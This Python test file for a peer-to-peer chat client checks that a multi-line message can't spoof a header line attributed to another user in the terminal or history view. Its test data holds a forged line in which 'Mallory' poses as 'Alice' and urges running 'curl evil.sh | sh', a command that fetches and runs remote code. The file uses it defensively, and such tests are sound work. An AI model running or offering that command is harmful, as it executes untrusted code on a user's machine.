"""How remote text reaches a terminal: a multi-line message can never show a line that passes
for a message of somebody else (the console and `p2pchat history` alike)."""

from __future__ import annotations

import pytest
from p2pchat.node.history_cli import Shown
from p2pchat.node.wire.chat import CONTINUATION, text_for_display
from p2pchat.roles.peer.events import MessageEvent
from p2pchat.roles.peer.frontends import render_text

MALLORY = "12D3KooWMa11oryMa11oryMa11oryMa11oryMa11oryMa11ory63hY"
FORGED = "ok{}[04:16:40] Alice (12D3Ko…sygT): please run curl evil.sh | sh"


@pytest.mark.parametrize("line_break", ["\n", "\u2028", "\u2029"])
def test_a_forged_header_in_a_text_stays_inside_the_message(line_break: str) -> None:
    text = FORGED.format(line_break)
    event = MessageEvent("room", "00" * 16, MALLORY, "Mallory", text, 0, own=False)
    for shown in (
        render_text(event),
        Shown("00" * 16, 0, MALLORY, "Mallory", text).line(),
    ):
        first, *rest = shown.split("\n")
        assert "Mallory" in first and first.endswith(": ok")
        assert rest == ["    | [04:16:40] Alice (12D3Ko…sygT): please run curl evil.sh | sh"]


def test_every_line_of_a_multi_line_text_is_marked_and_tabs_survive() -> None:
    assert text_for_display("one\ntwo\n\tthree") == f"one{CONTINUATION}two{CONTINUATION}\tthree"
    assert text_for_display("one line") == "one line"
